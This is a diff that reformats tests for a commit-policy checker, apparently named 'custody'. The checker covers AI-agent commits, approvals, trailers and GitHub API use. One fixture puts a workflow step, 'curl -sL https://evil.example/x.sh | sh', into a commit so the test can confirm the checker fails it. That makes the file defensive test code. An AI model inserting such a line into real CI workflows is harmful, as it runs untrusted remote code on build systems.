@@ -92,14 +92,27 @@ function ruleIds(out: string): string[] {
 describe("the policy comes from the base", () => {
   it("a commit that relaxes the policy and pipes curl into sh in a workflow fails, judged by the base's policy", async () => {
     repo.write(".github/custody.yml", "version: 1\nfail_on: critical\nrules:\n  protected_paths:\n    enabled: false\n");
-    repo.write(".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n      - run: curl -sL https://evil.example/x.sh | sh\n");
+    repo.write(
+      ".github/workflows/ci.yml",
+      "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n      - run: curl -sL https://evil.example/x.sh | sh\n",
+    );
     const head = repo.commit(`Speed up CI${TRAILERS}`, { author: COPILOT });
     const { code, out } = await check("--base", base, "--head", head, "--format", "json");
-    const report = JSON.parse(out) as { outcome: string; failOn: string; policy: Record<string, unknown>; rules: { id: string; outcome: string }[] };
+    const report = JSON.parse(out) as {
+      outcome: string;
+      failOn: string;
+      policy: Record<string, unknown>;
+      rules: { id: string; outcome: string }[];
+    };
     expect(code).toBe(1);
     expect(report.outcome).toBe("fail");
     expect(report.failOn).toBe("medium");
-    expect(report.policy).toEqual({ origin: "base", path: ".github/custody.yml", blobSha: repo.git("rev-parse", `${base}:.github/custody.yml`), rev: base });
+    expect(report.policy).toEqual({
+      origin: "base",
+      path: ".github/custody.yml",
+      blobSha: repo.git("rev-parse", `${base}:.github/custody.yml`),
+      rev: base,
+    });
     expect(ruleIds(out)).toEqual(expect.arrayContaining(["protected-paths", "policy-change"]));
     expect(report.rules.find((rule) => rule.id === "protected-paths")?.outcome).toBe("failed");
   });
@@ -123,7 +136,9 @@ describe("the policy comes from the base", () => {
       const { out } = await check("--base", noPolicy, "--head", head, "--format", format);
       expect(out, format).toContain(`built-in defaults (no .github/custody.yml at base ${noPolicy.slice(0, 12)})`);
     }
-    const sarif = JSON.parse((await check("--base", noPolicy, "--head", head, "--format", "sarif")).out) as { runs: { properties: { policy: unknown } }[] };
+    const sarif = JSON.parse((await check("--base", noPolicy, "--head", head, "--format", "sarif")).out) as {
+      runs: { properties: { policy: unknown } }[];
+    };
     expect(sarif.runs[0]?.properties.policy).toEqual({ origin: "default", rev: noPolicy });
   });
 
@@ -159,7 +174,9 @@ describe("approvals count only on the head, from independent humans", () => {
     repo.write("docs/a.md", "a\n");
     const head = repo.commit(`Docs${TRAILERS}Co-authored-by: Kim <77+kim@users.noreply.github.com>\n`, { author: COPILOT });
     const { code, out } = await check("--event", writeEvent(head, [{ login, commit: head }]), "--head", head, "--format", "json");
-    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find((entry) => entry.ruleId === "required-approvals");
+    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find(
+      (entry) => entry.ruleId === "required-approvals",
+    );
     expect(finding?.message).toMatch(message);
     expect(code).toBe(1);
   });
@@ -168,7 +185,9 @@ describe("approvals count only on the head, from independent humans", () => {
     repo.write("docs/a.md", "a\n");
     const head = repo.commit("Docs\n\nAgent-Task: #12\nAuthorized-by: Claude <noreply@anthropic.com>\n", { author: COPILOT });
     const { out } = await check("--event", writeEvent(head, [{ login: "sam", commit: head }]), "--head", head, "--format", "json");
-    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find((entry) => entry.ruleId === "required-trailers");
+    const finding = (JSON.parse(out) as { findings: { ruleId: string; message: string }[] }).findings.find(
+      (entry) => entry.ruleId === "required-trailers",
+    );
     expect(finding?.message).toContain("Authorized-by: names Claude (an agent): only a human can authorise an agent's work");
   });
 });
@@ -179,7 +198,9 @@ describe("bad ranges and unreadable inputs are one line, exit 2", () => {
     const head = repo.commit("Bump", { author: HUMAN });
     const { code, err } = await check("--base", head, "--head", base);
     expect(code).toBe(2);
-    expect(err).toMatch(/^custody: --head .* is an ancestor of --base .*: there are no commits to check\. Are --base and --head swapped\?\n$/);
+    expect(err).toMatch(
+      /^custody: --head .* is an ancestor of --base .*: there are no commits to check\. Are --base and --head swapped\?\n$/,
+    );
   });
 
   it("an empty range (base equals head)", async () => {
@@ -267,11 +288,28 @@ describe("the Action's github-token: reviews, labels and CODEOWNERS teams from t
       "/orgs/acme/teams/platform/members": [{ login: "lee" }],
     });
     const event = writeEvent(head, undefined);
-    const withToken = await checkWith({ CUSTODY_GITHUB_TOKEN: "t0ken-for-the-stand-in", GITHUB_API_URL: url }, "--event", event, "--base", teamBase, "--head", head, "--format", "json");
+    const withToken = await checkWith(
+      { CUSTODY_GITHUB_TOKEN: "t0ken-for-the-stand-in", GITHUB_API_URL: url },
+      "--event",
+      event,
+      "--base",
+      teamBase,
+      "--head",
+      head,
+      "--format",
+      "json",
+    );
     const report = JSON.parse(withToken.out) as { rules: { id: string; outcome: string }[] };
-    expect(report.rules.filter((rule) => ["required-approvals", "codeowner-approval"].includes(rule.id)).map((rule) => rule.outcome)).toEqual(["passed", "passed"]);
+    expect(
+      report.rules.filter((rule) => ["required-approvals", "codeowner-approval"].includes(rule.id)).map((rule) => rule.outcome),
+    ).toEqual(["passed", "passed"]);
     expect(withToken.code).toBe(0);
-    expect(seen).toEqual(expect.arrayContaining([expect.stringMatching(/^GET \/repos\/acme\/billing\/pulls\/12\/reviews (token|bearer) t0ken-for-the-stand-in$/i), expect.stringMatching(/^GET \/orgs\/acme\/teams\/platform\/members /)]));
+    expect(seen).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/^GET \/repos\/acme\/billing\/pulls\/12\/reviews (token|bearer) t0ken-for-the-stand-in$/i),
+        expect.stringMatching(/^GET \/orgs\/acme\/teams\/platform\/members /),
+      ]),
+    );
     // The same check without the token cannot see the reviews, and says how to fix it.
     const without = await check("--event", event, "--base", teamBase, "--head", head);
     expect(without.code).toBe(1);
@@ -281,8 +319,17 @@ describe("the Action's github-token: reviews, labels and CODEOWNERS teams from t
   it("an API failure is exit 2 naming the call, never a pass", async () => {
     repo.write("src/app.ts", "export const app = 2;\n");
     const head = repo.commit(`Raise app${TRAILERS}`, { author: COPILOT });
-    const url = await standIn({ "/repos/acme/billing/pulls/12/reviews": { message: "boom" }, "/repos/acme/billing/issues/12/labels": [] }, 500);
-    const { code, err } = await checkWith({ CUSTODY_GITHUB_TOKEN: "t", GITHUB_API_URL: url }, "--event", writeEvent(head, undefined), "--head", head);
+    const url = await standIn(
+      { "/repos/acme/billing/pulls/12/reviews": { message: "boom" }, "/repos/acme/billing/issues/12/labels": [] },
+      500,
+    );
+    const { code, err } = await checkWith(
+      { CUSTODY_GITHUB_TOKEN: "t", GITHUB_API_URL: url },
+      "--event",
+      writeEvent(head, undefined),
+      "--head",
+      head,
+    );
     expect(code).toBe(2);
     expect(err).toMatch(/^custody: GitHub API GET \/repos\/\{owner\}\/\{repo\}\/pulls\/\{pull_number\}\/reviews failed with HTTP 500/);
   });
